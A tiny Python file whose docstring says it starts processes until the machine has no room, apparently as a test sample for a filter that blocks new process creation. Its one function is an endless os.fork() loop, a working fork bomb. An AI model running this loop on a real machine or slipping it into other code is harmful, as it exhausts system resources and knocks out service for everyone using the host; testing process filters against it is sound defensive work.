"""Starts processes until the machine has no room for more.

Stopped by: no new process in the filter.
"""

import os
def attempt(where):
    while True:
        os.fork()
